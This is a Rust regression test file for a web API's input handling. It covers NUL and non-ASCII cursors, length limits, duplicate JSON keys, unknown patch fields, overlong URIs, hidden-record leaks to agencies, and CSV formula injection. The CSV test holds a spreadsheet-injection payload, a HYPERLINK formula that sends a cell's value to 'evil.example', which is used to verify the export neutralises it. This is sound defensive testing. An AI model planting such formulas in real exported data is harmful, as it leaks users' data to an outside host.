//! Regressions of defects found by probing the running server as an outsider would: input
//! that panicked or reached the database unchecked, limits that differed from the document's,
//! what agencies could learn of records they cannot see, formulas in exports, and sign-in
//! throttling under parallel attempts.

use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};
use zhaoshang_api::testing::TestDb;
use zhaoshang_client::Client;
use zhaoshang_e2e::{PASSWORD, TestApp, answer, credit_code, db_test};
use zhaoshang_types::{
    BatchOutcome, ChainNodeFields, ContactFields, IndustryFields, InvestorFields, LibraryQuery,
    NewOrg, NodePosition, OrgKind, OrgPatch, Role,
};

use crate::library::agency_user;

mod concurrency;
mod signin;

db_test!(a_cursor_that_is_not_ascii_is_refused, cursor_not_ascii);
/// `cursor=aéa` once sliced a string inside a character and dropped the connection.
async fn cursor_not_ascii(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for path in [
        "/api/v1/investors?cursor=a%C3%A9a",
        "/api/v1/enterprises?cursor=%E8%A1%A2%E5%B7%9E",
        "/api/v1/orgs?cursor=a%C3%A9a",
        "/api/v1/users?cursor=a%C3%A9a",
        "/api/v1/audit?cursor=a%C3%A9a",
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        assert_eq!(status, 422, "{path}: {body}");
        assert_eq!(body["errors"][0]["field"], "cursor", "{path}: {body}");
        assert_eq!(
            body["errors"][0]["code"], "invalid_cursor",
            "{path}: {body}"
        );
    }
}

db_test!(a_cursor_holding_nul_is_refused, cursor_nul);
/// `cursor=00` decodes to U+0000, which PostgreSQL refused with a 500 on the identity lists
/// (found by schemathesis): it is a cursor this API never gives out, 422 on both backends.
async fn cursor_nul(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for path in [
        "/api/v1/users?cursor=00",
        "/api/v1/orgs?cursor=6100",
        "/api/v1/clients?cursor=00",
        "/api/v1/audit?cursor=00",
        "/api/v1/reference/divisions?cursor=00",
        "/api/v1/investors?cursor=00",
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        assert_eq!(status, 422, "{path}: {body}");
        assert_eq!(
            (&body["errors"][0]["field"], &body["errors"][0]["code"]),
            (&json!("cursor"), &json!("invalid_cursor")),
            "{path}: {body}"
        );
    }
}

db_test!(limits_count_what_is_sent, limits_as_sent);
/// A length limit counts the characters as sent, surrounding white space too, and a list's
/// limit its entries as sent, repeats too, as the document's `maxLength` and `maxItems` say;
/// the server then trims and drops repeats.
async fn limits_as_sent(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let name = "名".repeat(200);
    let tags: Vec<String> = (0..30).map(|i| format!("标签{i}")).collect();
    let post = |path: &'static str, body: Value| {
        let app = &app;
        let admin = &admin;
        async move { answer(app.request_as(admin, Method::POST, path).await.json(&body)).await }
    };
    for (case, path, body, field, code) in [
        (
            "a name of 200 characters and a space",
            "/api/v1/investors",
            json!({"name": format!("{name} ")}),
            "name",
            "too_long",
        ),
        (
            "30 tags and a repeat",
            "/api/v1/investors",
            json!({"name": "列表", "tags": tags.iter().chain(&tags[..1]).collect::<Vec<_>>()}),
            "tags",
            "too_many",
        ),
        (
            "a tag of 50 characters and a space",
            "/api/v1/investors",
            json!({"name": "标签", "tags": [format!(" {}", "签".repeat(50))]}),
            "tags[0]",
            "too_long",
        ),
        (
            "an organisation's name of 100 characters and a space",
            "/api/v1/orgs",
            json!({"kind": "zone", "name": format!("{} ", "区".repeat(100))}),
            "name",
            "too_long",
        ),
    ] {
        let (status, problem) = post(path, body).await;
        assert_eq!(status, 422, "{case}: {problem}");
        assert_eq!(
            (
                &problem["errors"][0]["field"],
                &problem["errors"][0]["code"]
            ),
            (&json!(field), &json!(code)),
            "{case}: {problem}"
        );
    }
    // At the limits, as sent, they are taken, trimmed and without repeats.
    let (status, created) = post(
        "/api/v1/investors",
        json!({"name": name, "tags": tags, "aliases": [" 别名 ", "别名"]}),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["tags"].as_array().map(Vec::len), Some(30));
    assert_eq!(created["aliases"], json!(["别名"]));
}

db_test!(
    a_merge_patch_naming_an_unknown_field_is_refused_everywhere,
    unknown_patch_fields
);
/// `{"x": null}` merged into a contact or a chain node vanished (200, found by schemathesis):
/// a merge patch's fields are checked before merging, as a record's are.
async fn unknown_patch_fields(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: "未知字段".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("investor");
    let contact = admin
        .investor_contacts(&investor.id)
        .create(&ContactFields {
            name: "李四".into(),
            ..ContactFields::default()
        })
        .await
        .expect("contact");
    let industry = admin
        .industries()
        .create(&IndustryFields {
            name: "未知字段产业".into(),
            ..IndustryFields::default()
        })
        .await
        .expect("industry");
    let node = admin
        .create_chain_node(
            &industry.id,
            &ChainNodeFields {
                name: "环节".into(),
                ..ChainNodeFields::default()
            },
        )
        .await
        .expect("node");
    for path in [
        format!("/api/v1/investors/{}", investor.id),
        format!("/api/v1/investors/{}/contacts/{}", investor.id, contact.id),
        format!("/api/v1/chain-nodes/{}", node.id),
    ] {
        for patch in [json!({"titel": null}), json!({"": null, "notes": "备注"})] {
            let (status, problem) = answer(
                app.request_as(&admin, Method::PATCH, &path)
                    .await
                    .header("content-type", "application/merge-patch+json")
                    .body(patch.to_string()),
            )
            .await;
            assert_eq!(status, 422, "{path} {patch}: {problem}");
            assert_eq!(
                problem["errors"][0]["code"], "unknown_field",
                "{path} {patch}: {problem}"
            );
        }
    }
    let unchanged = (
        admin.investors().get(&investor.id).await.expect("investor"),
        admin
            .investor_contacts(&investor.id)
            .list()
            .await
            .expect("contacts")
            .items,
        admin.get_chain_node(&node.id).await.expect("node"),
    );
    assert_eq!(unchanged, (investor, vec![contact], node), "unchanged");
}

db_test!(text_holding_nul_is_refused_alike_on_both_backends, nul_text);
/// U+0000 cannot be stored by PostgreSQL: it is refused before any query, with the field named,
/// on both backends, in a JSON body, a query parameter, a path and the token form.
async fn nul_text(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (status, body) = answer(
        app.request_as(&admin, Method::POST, "/api/v1/investors")
            .await
            .json(&json!({"name": "a\u{0}b", "tags": ["ok", "x\u{0}"]})),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
    assert!(
        ["name", "tags[1]"].contains(&body["errors"][0]["field"].as_str().unwrap_or("")),
        "{body}"
    );
    let (status, body) = answer(
        app.request_as(&admin, Method::GET, "/api/v1/investors?q=x%00y")
            .await,
    )
    .await;
    assert_eq!(
        (status, &body["errors"][0]["field"]),
        (422, &json!("q")),
        "{body}"
    );
    let (status, body) = answer(
        app.request_as(&admin, Method::GET, "/api/v1/investors/a%00b")
            .await,
    )
    .await;
    assert_eq!(status, 404, "{body}");
    let (status, body) = answer(app.http().post(app.url("/api/v1/auth/token")).form(&[
        ("grant_type", "password"),
        ("username", "x\u{0}y"),
        ("password", "whatever password"),
    ]))
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["errors"][0]["field"], "username", "{body}");
    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
    // Nothing was stored, and the escape for a backslash before `u0000` is ordinary text.
    let all = admin
        .investors()
        .list(&LibraryQuery::default())
        .await
        .expect("list");
    assert!(all.items.is_empty(), "{:?}", all.items);
    let plain = admin
        .investors()
        .create(&InvestorFields {
            name: "反斜杠\\u0000".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("a backslash is text");
    assert_eq!(plain.fields.name, "反斜杠\\u0000");
}

db_test!(
    agencies_learn_nothing_of_records_they_cannot_see,
    agency_hidden_records
);
/// Look-alike names and credit-code clashes name no record an agency cannot see.
async fn agency_hidden_records(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let (_, agency) = agency_user(&app, &admin, "上海某招商咨询").await;
    let code = credit_code(7);
    let hidden = admin
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            credit_code: Some(code.clone()),
            ..InvestorFields::default()
        })
        .await
        .expect("the bureau's investor");
    let own = agency
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("the agency's look-alike");
    assert!(
        own.possible_duplicates.is_empty(),
        "an invisible look-alike is named: {:?}",
        own.possible_duplicates
    );
    let by_bureau = admin
        .investors()
        .create(&InvestorFields {
            name: "浙江某新材料集团".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("the bureau sees both");
    assert_eq!(by_bureau.possible_duplicates.len(), 2);

    let clash = agency
        .investors()
        .create(&InvestorFields {
            name: "另一家".into(),
            credit_code: Some(code.clone()),
            ..InvestorFields::default()
        })
        .await
        .expect_err("the code is taken");
    let problem = clash.problem().expect("a problem");
    assert_eq!((problem.status, problem.code.as_str()), (409, "conflict"));
    assert_eq!(problem.existing_id, None, "{problem:?}");
    assert!(!format!("{problem:?}").contains(&hidden.id), "{problem:?}");

    let batch = agency
        .investors()
        .batch_upsert(&[InvestorFields {
            name: "同步的客商".into(),
            credit_code: Some(code.clone()),
            external_id: Some("ext-1".into()),
            ..InvestorFields::default()
        }])
        .await
        .expect_err("the code is taken");
    let text = format!("{:?}", batch.problem().expect("a problem"));
    assert!(text.contains("credit_code"), "{text}");
    assert!(!text.contains(&hidden.id), "{text}");
    // Its own record's id it may be told.
    let mine = agency
        .investors()
        .batch_upsert(&[InvestorFields {
            name: "自有客商".into(),
            credit_code: Some(credit_code(8)),
            external_id: Some("ext-2".into()),
            ..InvestorFields::default()
        }])
        .await
        .expect("own record");
    assert_eq!(mine.results[0].outcome, BatchOutcome::Created);
    let own_clash = agency
        .investors()
        .create(&InvestorFields {
            name: "重复的自有客商".into(),
            credit_code: Some(credit_code(8)),
            ..InvestorFields::default()
        })
        .await
        .expect_err("its own code is taken");
    assert_eq!(
        own_clash.problem().and_then(|p| p.existing_id.clone()),
        Some(mine.results[0].id.clone())
    );
}

db_test!(exported_cells_are_never_formulas, csv_formulas);
/// Names and contacts that a spreadsheet would evaluate are exported with a leading `'`.
async fn csv_formulas(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
    let investor = admin
        .investors()
        .create(&InvestorFields {
            name: formula.into(),
            tags: vec!["@SUM(1)".into()],
            ..InvestorFields::default()
        })
        .await
        .expect("stored as written");
    assert_eq!(investor.fields.name, formula, "the record keeps the text");
    admin
        .investor_contacts(&investor.id)
        .create(&ContactFields {
            name: "-2+3".into(),
            phone: Some("+8613812345678".into()),
            ..ContactFields::default()
        })
        .await
        .expect("contact");
    let csv = String::from_utf8(
        admin
            .investors()
            .export_csv(&LibraryQuery::default())
            .await
            .expect("csv"),
    )
    .expect("utf-8");
    let (status, contacts) = answer(
        app.request_as(
            &admin,
            Method::GET,
            &format!("/api/v1/investors/{}/contacts?format=csv", investor.id),
        )
        .await,
    )
    .await;
    assert_eq!(status, 200);
    let contacts = contacts.as_str().unwrap_or_default().to_owned();
    for (export, cell) in [
        (&csv, "\"'=HYPERLINK("),
        (&csv, "'@SUM(1)"),
        (&contacts, "'-2+3"),
        (&contacts, "'+8613812345678"),
    ] {
        assert!(export.contains(cell), "{cell} in {export}");
    }
    for (export, raw) in [(&csv, ",\"=HYPERLINK("), (&contacts, ",-2+3,")] {
        assert!(!export.contains(raw), "{raw} in {export}");
    }
}

db_test!(
    filters_by_values_a_resource_does_not_have_are_422,
    unknown_filter_values
);
/// `status`, `priority` and `kind` filters take the values of the resource's field; anything
/// else (a misspelling, or a filter the resource does not have) is 422 naming the parameter,
/// not an empty page that looks like an answer.
async fn unknown_filter_values(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    for (path, ok) in [
        ("/api/v1/investors?status=negotiating", true),
        ("/api/v1/investors?priority=A&kind=fund", true),
        ("/api/v1/agencies?status=suspended&kind=bank", true),
        ("/api/v1/target-regions?priority=B", true),
        ("/api/v1/industries?priority=C", true),
        ("/api/v1/investors?status=negotating", false),
        ("/api/v1/investors?priority=a", false),
        ("/api/v1/agencies?priority=A", false),
        ("/api/v1/enterprises?status=active", false),
        ("/api/v1/industries?kind=fund&format=csv", false),
    ] {
        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
        if ok {
            assert_eq!(status, 200, "{path}: {body}");
        } else {
            let field = path
                .rsplit_once('?')
                .and_then(|(_, q)| q.split('=').next())
                .unwrap_or_default();
            assert_eq!(
                (status, body["errors"][0]["field"].as_str()),
                (422, Some(field)),
                "{path}: {body}"
            );
        }
    }
}

db_test!(a_body_naming_a_key_twice_is_422, duplicate_keys);
/// `{"name": "甲", "name": "乙"}` once kept the last name silently; now the key is named, in
/// create bodies, merge patches and batch items alike, and nothing is written.
async fn duplicate_keys(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let record = admin
        .investors()
        .create(&InvestorFields {
            name: "重复键".into(),
            ..InvestorFields::default()
        })
        .await
        .expect("created");
    let patch_path = format!("/api/v1/investors/{}", record.id);
    for (method, path, body, field) in [
        (
            Method::POST,
            "/api/v1/investors",
            r#"{"name": "甲", "name": "乙"}"#,
            "name",
        ),
        (
            Method::PATCH,
            patch_path.as_str(),
            r#"{"notes": "甲", "notes": null}"#,
            "notes",
        ),
        (
            Method::PUT,
            "/api/v1/investors:batch",
            r#"{"items": [{"name": "甲", "external_id": "x", "external_id": "y"}]}"#,
            "items[0].external_id",
        ),
    ] {
        let content_type = if method == Method::PATCH {
            "application/merge-patch+json"
        } else {
            "application/json"
        };
        let (status, problem) = answer(
            app.request_as(&admin, method.clone(), path)
                .await
                .header("content-type", content_type)
                .body(body),
        )
        .await;
        assert_eq!(
            (
                status,
                problem["errors"][0]["field"].as_str(),
                problem["errors"][0]["code"].as_str()
            ),
            (422, Some(field), Some("duplicate_key")),
            "{method} {path}: {problem}"
        );
    }
    let after = admin.investors().get(&record.id).await.expect("read");
    assert_eq!(after.version, record.version, "unchanged");
    let all = admin
        .investors()
        .list(&LibraryQuery::default())
        .await
        .expect("list");
    assert_eq!(all.items.len(), 1, "nothing created");
}

db_test!(an_overlong_uri_is_414_with_a_problem, overlong_uri);
/// A path and query over 16 KiB is refused before any handler with a problem body, signed in
/// or not; a long search text within it is 422 naming `q`.
async fn overlong_uri(db: TestDb) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin().await;
    let long = format!("/api/v1/investors?q={}", "招".repeat(6000));
    let (status, problem) = answer(app.request_as(&admin, Method::GET, &long).await).await;
    assert_eq!(
        (status, problem["code"].as_str()),
        (414, Some("uri_too_long")),
        "{problem}"
    );
    let (status, problem) = answer(app.http().get(app.url(&long))).await;
    assert_eq!(
        (status, problem["code"].as_str()),
        (414, Some("uri_too_long"))
    );
    let shorter = format!("/api/v1/investors?q={}", "招".repeat(300));
    let (status, problem) = answer(app.request_as(&admin, Method::GET, &shorter).await).await;
    assert_eq!(
        (
            status,
            problem["errors"][0]["field"].as_str(),
            problem["errors"][0]["code"].as_str()
        ),
        (422, Some("q"), Some("too_long")),
        "{problem}"
    );
}
